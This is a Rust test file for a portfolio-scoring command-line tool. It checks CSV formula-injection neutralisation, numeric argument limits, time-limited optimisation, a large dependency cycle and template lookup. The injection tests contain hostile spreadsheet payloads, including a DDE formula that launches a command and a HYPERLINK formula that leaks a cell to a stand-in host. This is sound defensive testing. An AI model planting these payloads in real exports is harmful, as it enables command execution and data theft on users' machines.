//! Hostile input for the commands: names that a spreadsheet would run as formulas in every CSV
//! the product writes, arguments out of range, work that must stop at its time limit, a long
//! dependency cycle, and the bundle template found from where the program is installed.

use crate::common::{graph_only, root, run_cli};
use aligngraph::formats::csv_cell::{is_number, is_trigger, neutralise, restore};
use aligngraph::formats::export::{ExportFormat, export};
use aligngraph::formats::{plain_csv, scores_csv};
use aligngraph::model::{Edge, EdgeKind, Model, Node, NodeKind, Num};
use aligngraph::{Options, score};
use proptest::prelude::*;
use serde_json::Value;
use std::path::Path;

/// A fresh empty folder under the system's temporary folder.
fn temp_dir(tag: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "aligngraph-hostile-cmds-{}-{tag}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn hostile(path: &str) -> std::path::PathBuf {
    root().join("tests/fixtures/hostile").join(path)
}

/// Every cell of a CSV text, with its row and column.
fn cells(text: &str) -> Vec<(usize, usize, String)> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut out = Vec::new();
    for (row, rec) in r.records().enumerate() {
        let rec = rec.expect("the written CSV parses");
        for (col, c) in rec.iter().enumerate() {
            out.push((row, col, c.to_string()));
        }
    }
    out
}

/// The cells that a spreadsheet would evaluate: starting with a trigger and not a number.
fn formula_cells(text: &str) -> Vec<(usize, usize, String)> {
    cells(text)
        .into_iter()
        .filter(|(_, _, c)| c.starts_with(is_trigger) && !is_number(c))
        .collect()
}

fn injection_model() -> Model {
    let text = std::fs::read_to_string(hostile("csv/injection-names.json")).unwrap();
    crate::common::model(&text)
}

#[test]
fn csv_cell_rules_match_the_shared_table_of_the_page() {
    let text = std::fs::read_to_string(hostile("csv/injection-cases.json")).unwrap();
    let table: Value = serde_json::from_str(&text).unwrap();
    let cases = table["cases"].as_array().unwrap();
    assert!(cases.len() > 20);
    for case in cases {
        let (text, written) = (case[0].as_str().unwrap(), case[1].as_str().unwrap());
        assert_eq!(neutralise(text), written, "{text:?}");
        assert_eq!(restore(written), text, "{written:?}");
    }
}

#[test]
fn every_csv_export_quotes_formula_names_and_keeps_numbers() {
    let m = injection_model();
    let report = score(&m, &Options::default());
    let files = export(&report, ExportFormat::Csv, "m", None);
    assert_eq!(files.len(), 3);
    for f in &files {
        assert_eq!(formula_cells(&f.text), vec![], "{}", f.name);
    }
    let scores = &files[2].text;
    assert!(
        scores.contains(r#"ini-0,initiative,"'=HYPERLINK(""http://host/?leak=""&A1,""details"")""#),
        "{scores}"
    );
    assert!(scores.contains("ini-1,initiative,'=cmd|' /C calc'!A0,"));
    // A node whose id and name are numbers keeps them as numbers.
    assert!(scores.contains("\n-5,initiative,-7,"), "{scores}");
    let nodes = &files[0].text;
    assert!(nodes.contains("\n'=id,initiative,'@id node,"), "{nodes}");
    assert!(nodes.contains(",'\tcalc,"), "{nodes}");
    assert!(nodes.contains("\"'\rcalc\""), "{nodes}");
    assert!(nodes.contains("''=already quoted"), "{nodes}");
    // The unknown field named like a formula is quoted in the header too.
    assert!(nodes.lines().next().unwrap().ends_with(",'=formula_field"));
    let edges = &files[1].text;
    assert!(edges.starts_with("from,to,kind,weight,'@note\n"), "{edges}");
    assert!(edges.contains("'=id,cap-+x,supports,0.25,'=1+1"), "{edges}");
    assert_eq!(scores_csv::to_string(&report).unwrap(), *scores);
}

#[test]
fn csv_export_of_formula_names_imports_back_to_the_same_model() {
    let m = injection_model();
    let (nodes, edges) = plain_csv::write(&m);
    let (back, d) = plain_csv::read(nodes.as_bytes(), edges.as_bytes());
    assert_eq!(d, vec![]);
    assert_eq!(back, graph_only(&m));
    assert_eq!(
        back.nodes[2].name.as_deref(),
        Some(r#"=HYPERLINK("http://host/?leak="&A1,"details")"#)
    );
}

#[test]
fn score_csv_and_export_csv_on_the_command_line_write_no_formula_cell() {
    let dir = temp_dir("csv");
    let model = hostile("csv/injection-names.json");
    let out = run_cli(dir.as_path(), &["score", model.to_str().unwrap(), "--csv"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(formula_cells(&text), vec![]);
    assert!(text.contains("'=cmd|' /C calc'!A0"));
    let out = run_cli(
        dir.as_path(),
        &[
            "export",
            model.to_str().unwrap(),
            "--to",
            "csv",
            "-o",
            "set",
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for f in ["nodes.csv", "edges.csv", "scores.csv"] {
        let text = std::fs::read_to_string(dir.as_path().join("set").join(f)).unwrap();
        assert_eq!(formula_cells(&text), vec![], "{f}");
    }
    // And the set imports back to the same names.
    let out = run_cli(
        dir.as_path(),
        &["import", "set/nodes.csv", "-o", "back.json"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let back = std::fs::read_to_string(dir.as_path().join("back.json")).unwrap();
    let (back, _) = aligngraph::load_json(&back);
    assert_eq!(graph_only(&back), graph_only(&injection_model()));
}

#[test]
fn archi_csv_reader_restores_quoted_formula_names() {
    let elements = "\"ID\",\"Type\",\"Name\",\"Documentation\",\"Specialization\"\n\
        \"m1\",\"ArchimateModel\",\"M\",\"\",\"\"\n\
        \"e1\",\"Goal\",\"'=1+1\",\"''=doc\",\"\"\n";
    let relations =
        "\"ID\",\"Type\",\"Name\",\"Documentation\",\"Source\",\"Target\",\"Specialization\"\n";
    let (m, _) =
        aligngraph::formats::archi_csv::read(elements.as_bytes(), relations.as_bytes(), None);
    let e = &m.elements[0];
    assert_eq!(e.name.as_deref(), Some("=1+1"));
    assert_eq!(e.documentation.as_deref(), Some("'=doc"));
}

/// Text rich in formula triggers and quotes.
const TRICKY: &str = "[=+@'\t\r-]{0,2}(\\PC{1,6}|[0-9.e+-]{1,5})";

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_csv_cell_starts_a_formula_and_export_imports_back(
        texts in prop::collection::vec(TRICKY, 1..8),
        key in TRICKY,
        numbers in prop::collection::vec(-1.0e6f64..=1.0e6, 0..8),
    ) {
        let mut m = Model::new();
        for (i, t) in texts.iter().enumerate() {
            let mut n = Node::new(format!("{t}{i}"), NodeKind::Initiative).with_name(t.as_str());
            n.attrs_mut().description = Some(t.as_str().into());
            n.extra_mut().insert(format!("x{key}"), Value::from(t.as_str()));
            if let Some(&x) = numbers.get(i) {
                n.attrs_mut().set(Num::Benefit, Some(x));
                n.attrs_mut().set(Num::Cost, Some(x.abs()));
            }
            m.add_node(n);
        }
        if !key.trim().is_empty() && !plain_csv::NODE_COLUMNS.contains(&key.trim()) {
            m.nodes[0].extra_mut().insert(key.clone(), Value::from("=1"));
        }
        for (i, &w) in numbers.iter().enumerate() {
            let from = (i % texts.len()) as u32;
            m.add_edge(Edge::new(from, 0, EdgeKind::Contributes).with_weight(w / 1.0e6));
        }
        let report = score(&m, &Options::default());
        for f in export(&report, ExportFormat::Csv, "m", None) {
            prop_assert_eq!(formula_cells(&f.text), vec![], "{}", f.name);
        }
        let (nodes, edges) = plain_csv::write(&m);
        let (back, d) = plain_csv::read(nodes.as_bytes(), edges.as_bytes());
        prop_assert!(d.iter().all(|d| d.code == aligngraph::diagnostics::Code::SelfLoop), "{:?}", d);
        prop_assert_eq!(back, m);
    }
}

// ---------------------------------------------------------------------------------------------
// Bounded commands

/// `n` initiatives depending on each other in one cycle, each supporting one goal.
fn dependency_cycle(n: usize) -> Model {
    let mut m = Model::new();
    let g = m.add_node(Node::new("goal", NodeKind::Goal));
    for i in 0..n {
        let mut node = Node::new(format!("i{i}"), NodeKind::Initiative);
        node.attrs_mut().set(Num::Cost, Some(1.0 + (i % 7) as f64));
        node.attrs_mut()
            .set(Num::Benefit, Some(10.0 + (i % 13) as f64));
        node.attrs_mut()
            .set(Num::Duration, Some(1.0 + (i % 3) as f64));
        m.add_node(node);
    }
    for i in 0..n as u32 {
        m.add_edge(Edge::new(
            1 + i,
            1 + (i + 1) % n as u32,
            EdgeKind::DependsOn,
        ));
        m.add_edge(Edge::new(1 + i, g, EdgeKind::Supports));
    }
    m
}

fn write_model(dir: &Path, name: &str, m: &Model) -> String {
    std::fs::write(dir.join(name), aligngraph::to_json(m)).unwrap();
    name.to_string()
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn optimize_on_a_100k_dependency_cycle_answers_all_or_nothing_and_says_why() {
    let m = dependency_cycle(100_000);
    let scores = aligngraph::analysis::compute(&m, &aligngraph::decide::scoring_options());
    let p = aligngraph::decide::optimize::problem(&m, &scores, None).unwrap();
    let warning = &p.diagnostics[0];
    assert_eq!(warning.code, aligngraph::Code::DependencyCycle);
    assert_eq!(warning.place.node.as_deref(), Some("i0"));
    assert_eq!(
        warning.message,
        "100,000 active initiatives depend on each other in a cycle (\"i0\", \"i1\", \"i2\", \"i3\", \"i4\" and 99,995 more); they are chosen all together or not at all"
    );
    let total: f64 = m.nodes.iter().filter_map(|n| n.attrs().cost()).sum();
    let none = p.solve(total - 1.0).unwrap();
    assert!(none.optimal && none.selected.is_empty());
    let all = p.solve(total).unwrap();
    assert!(all.optimal);
    assert_eq!(all.selected.len(), 100_000);
}

#[test]
fn schedule_refuses_a_100k_dependency_cycle_with_a_short_message() {
    let m = dependency_cycle(100_000);
    let e = aligngraph::decide::schedule::schedule(&m, None).unwrap_err();
    assert_eq!(e.code, aligngraph::Code::DependencyCycle);
    assert!(e.message.len() < 400, "{}", e.message);
    assert!(
        e.message.contains("\"i0\" -> \"i1\"") && e.message.contains("... 99,990 more ..."),
        "{}",
        e.message
    );
    assert!(
        e.message.ends_with(
            ", 100,000 initiatives; each depends_on the next), so they cannot be scheduled"
        ),
        "{}",
        e.message
    );
}

#[test]
fn optimize_stopped_by_its_caller_returns_the_best_portfolio_with_its_gap() {
    let m = aligngraph::generate::portfolio(400, 7);
    let scores = aligngraph::analysis::compute(&m, &aligngraph::decide::scoring_options());
    let p = aligngraph::decide::optimize::problem(&m, &scores, None).unwrap();
    let mut asked = 0;
    let mut stop = |_: aligngraph::decide::Progress| {
        asked += 1;
        true
    };
    let s = p.solve_until(20_000.0, &mut stop).unwrap();
    assert!(asked >= 1);
    assert!(s.stopped && !s.optimal);
    assert!(s.value > 0.0 && s.cost <= 20_000.0);
    assert!(s.bound >= s.value && s.gap >= 0.0 && s.gap < 1.0);
    let json = serde_json::to_value(&s).unwrap();
    assert_eq!(json["stopped"], true);
    // Never stopped: the same as before, without the field.
    let full = p.solve(20_000.0).unwrap();
    assert!(!full.stopped);
    assert!(
        serde_json::to_value(&full)
            .unwrap()
            .get("stopped")
            .is_none()
    );
    assert!(full.value >= s.value);
}

#[test]
fn frontier_stopped_by_its_caller_keeps_every_point_and_marks_them() {
    let m = aligngraph::generate::portfolio(300, 3);
    let scores = aligngraph::analysis::compute(&m, &aligngraph::decide::scoring_options());
    let p = aligngraph::decide::optimize::problem(&m, &scores, None).unwrap();
    let mut stop = |_: aligngraph::decide::Progress| true;
    let f = p.frontier_until(50, &mut stop).unwrap();
    assert!(f.stopped && !f.exact);
    assert_eq!(f.points.len(), 50);
    assert!(f.points.windows(2).all(|w| w[0].value <= w[1].value));
    assert!(f.points.iter().all(|pt| pt.cost <= pt.budget + 1e-6));
}

#[test]
fn frontier_refuses_more_points_than_it_can_hold() {
    let m = aligngraph::generate::portfolio(20, 3);
    let scores = aligngraph::analysis::compute(&m, &aligngraph::decide::scoring_options());
    let p = aligngraph::decide::optimize::problem(&m, &scores, None).unwrap();
    let e = p.frontier(1_000_000_000).unwrap_err();
    assert_eq!(e.code, aligngraph::Code::InvalidArgument);
    assert_eq!(e.place.field.as_deref(), Some("points"));
    assert_eq!(
        e.message,
        "the frontier needs 1 to 10,000 points, got 1000000000"
    );
}

#[test]
fn numeric_arguments_out_of_range_are_refused_with_their_range() {
    let dir = temp_dir("ranges");
    let model = write_model(&dir, "m.json", &aligngraph::generate::portfolio(10, 1));
    for (args, words) in [
        (
            vec!["optimize", &model, "--frontier", "--points", "1000000000"],
            "invalid value '1000000000' for '--points <POINTS>': must be a whole number from 2 to 10,000",
        ),
        (
            vec!["optimize", &model, "--frontier", "--points", "1"],
            "must be a whole number from 2 to 10,000, got \"1\"",
        ),
        (
            vec!["optimize", &model, "--budget", "10", "--time-limit", "-1"],
            "must be a number of seconds from 0 (no limit) to 86,400 (one day), got \"-1\"",
        ),
        (
            vec!["simulate", &model, "--runs", "1e12"],
            "error[INVALID_ARGUMENT] at field \"runs\": the number of runs must be between 1 and 1000000, found 1000000000000",
        ),
        (
            vec!["simulate", &model, "--top", "0"],
            "must be a whole number from 1 to 1,000",
        ),
        (
            vec!["schedule", &model, "--deadline", "NaN"],
            "must be a finite number, got \"NaN\"",
        ),
        (
            vec!["score", &model, "--paths", "100000000000"],
            "must be a whole number from 1 to 1,000",
        ),
        (
            vec!["wsjf", &model, "--weighted", "--top", "1e9"],
            "must be a whole number from 1 to 1,000",
        ),
        (
            vec!["generate", "--nodes", "1e12"],
            "must be a whole number from 1 to 5,000,000",
        ),
        (
            vec!["generate", "--nodes", "1000000", "--edges-per-node", "50"],
            "error: --nodes 1,000,000 x --edges-per-node 50 is more than the 25,000,000 edges a model may have; lower one of them",
        ),
    ] {
        let out = run_cli(&dir, &args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(stderr(&out).contains(words), "{args:?}: {}", stderr(&out));
    }
}

#[test]
fn optimize_at_its_time_limit_prints_the_best_portfolio_and_its_gap() {
    let dir = temp_dir("time-limit");
    // Big enough that the search cannot prove the optimum before the first check of the clock.
    let model = write_model(&dir, "p.json", &aligngraph::generate::portfolio(3000, 11));
    let out = run_cli(
        &dir,
        &[
            "optimize",
            &model,
            "--budget",
            "200000",
            "--time-limit",
            "0.000001",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["stopped"], true);
    assert_eq!(v["optimal"], false);
    assert!(v["value"].as_f64().unwrap() > 0.0);
    let gap = v["gap"].as_f64().unwrap();
    assert!(stderr(&out).contains(&format!(
        "p.json: warning: stopped at the time limit (0.000001 s): the portfolio is the best found, within {:.2}% of the optimum (gap {gap:.4}); --time-limit SECONDS allows longer, 0 for no limit",
        gap * 100.0
    )), "{}", stderr(&out));
    // The progress line goes to a terminal only: none here.
    assert!(!stderr(&out).contains('\r'));
}

#[test]
fn simulate_at_its_time_limit_summarises_the_runs_done() {
    let dir = temp_dir("sim-limit");
    let model = write_model(&dir, "p.json", &aligngraph::generate::portfolio(200, 5));
    let out = run_cli(
        &dir,
        &[
            "simulate",
            &model,
            "--runs",
            "1000000",
            "--time-limit",
            "0.000001",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let runs = v["runs"].as_u64().unwrap();
    assert!((100..1_000_000).contains(&runs), "{runs}");
    assert!(
        stderr(&out).contains(" of 1,000,000 runs; the results summarise the runs done; --time-limit SECONDS allows longer, 0 for no limit"),
        "{}",
        stderr(&out)
    );
}

// ---------------------------------------------------------------------------------------------
// The bundle template

const TEMPLATE: &str = "<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>aligngraph</title>\n</head>\n<body>\n<main id=\"view\"></main>\n<script type=\"application/octet-stream\" id=\"aligngraph-wasm\" data-encoding=\"gzip\">H4sIAAAAAAAAA+3BMQEAAADCoPVPbQ0PoAAAAAAAAAAAAAAAAAAAAIC3AYbSVKsAQAAA</script>\n</body>\n</html>\n";

/// The program under another name (a hard link where the file system allows, else a copy), so
/// it looks for its template from that folder.
fn install_program(exe: &Path) {
    let built = env!("CARGO_BIN_EXE_aligngraph");
    if std::fs::hard_link(built, exe).is_err() {
        std::fs::copy(built, exe).unwrap();
    }
}

fn run_cli_env(dir: &Path, exe: &Path, args: &[&str], env: Option<&Path>) -> std::process::Output {
    let mut c = std::process::Command::new(exe);
    c.args(args)
        .current_dir(dir)
        .env_remove("ALIGNGRAPH_TEMPLATE");
    if let Some(e) = env {
        c.env("ALIGNGRAPH_TEMPLATE", e);
    }
    c.output().expect("the aligngraph binary runs")
}

#[test]
fn bundle_outside_the_repository_says_where_it_looked_and_how_to_get_a_template() {
    let dir = temp_dir("bundle-none");
    std::fs::write(dir.join("m.json"), aligngraph::demo::DEMO_JSON).unwrap();
    // A copy of the program in a folder of its own, with no template near it.
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let exe = bin.join("aligngraph");
    install_program(&exe);
    let out = run_cli_env(&dir, &exe, &["bundle", "m.json", "-o", "out.html"], None);
    assert_eq!(out.status.code(), Some(3));
    let err = stderr(&out);
    assert!(err.starts_with("error: bundle needs the single-file dashboard (aligngraph.html) to embed the model in, and found none; it looked in:\n  $ALIGNGRAPH_TEMPLATE (not set)\n"), "{err}");
    assert!(
        err.contains(&format!("  {}\n", bin.join("aligngraph.html").display())),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "  {}\n",
            dir.join("share/aligngraph/aligngraph.html").display()
        )),
        "{err}"
    );
    assert!(
        err.contains("--template FILE") && err.contains("`make page`"),
        "{err}"
    );
    assert!(!dir.join("out.html").exists());

    // Next to the program: found, whatever the current folder.
    std::fs::write(bin.join("aligngraph.html"), TEMPLATE).unwrap();
    let out = run_cli_env(&dir, &exe, &["bundle", "m.json", "-o", "out.html"], None);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        std::fs::read_to_string(dir.join("out.html"))
            .unwrap()
            .contains("aligngraph-model")
    );
}

#[test]
fn bundle_finds_the_template_in_share_or_from_the_environment() {
    let dir = temp_dir("bundle-share");
    std::fs::write(dir.join("m.json"), aligngraph::demo::DEMO_JSON).unwrap();
    let bin = dir.join("prefix/bin");
    let share = dir.join("prefix/share/aligngraph");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::create_dir_all(&share).unwrap();
    let exe = bin.join("aligngraph");
    install_program(&exe);
    std::fs::write(share.join("aligngraph.html"), TEMPLATE).unwrap();
    let out = run_cli_env(&dir, &exe, &["bundle", "m.json", "-o", "a.html"], None);
    assert!(out.status.success(), "{}", stderr(&out));

    // $ALIGNGRAPH_TEMPLATE comes first; naming a missing file is an error of its own.
    let custom = dir.join("custom.html");
    std::fs::write(
        &custom,
        TEMPLATE.replace("<main", "<main data-custom=\"1\""),
    )
    .unwrap();
    let out = run_cli_env(
        &dir,
        &exe,
        &["bundle", "m.json", "-o", "b.html"],
        Some(&custom),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        std::fs::read_to_string(dir.join("b.html"))
            .unwrap()
            .contains("data-custom")
    );
    let missing = dir.join("missing.html");
    let out = run_cli_env(
        &dir,
        &exe,
        &["bundle", "m.json", "-o", "c.html"],
        Some(&missing),
    );
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(
        stderr(&out),
        format!(
            "{}: error: cannot read the template named by $ALIGNGRAPH_TEMPLATE: no such file\n",
            missing.display()
        )
    );
}
